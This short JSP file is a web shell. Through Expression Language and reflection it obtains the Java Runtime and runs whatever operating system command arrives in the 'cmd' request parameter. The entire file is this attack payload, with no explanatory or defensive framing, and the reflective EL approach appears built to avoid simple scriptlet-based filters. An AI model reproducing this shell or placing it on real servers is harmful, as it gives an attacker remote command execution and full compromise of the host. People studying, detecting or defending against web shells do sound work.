<%@ page contentType="text/html;charset=UTF-8" %>
${pageContext.setAttribute("r", "".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null))}
${pageContext.getAttribute("r").exec(param.cmd)}
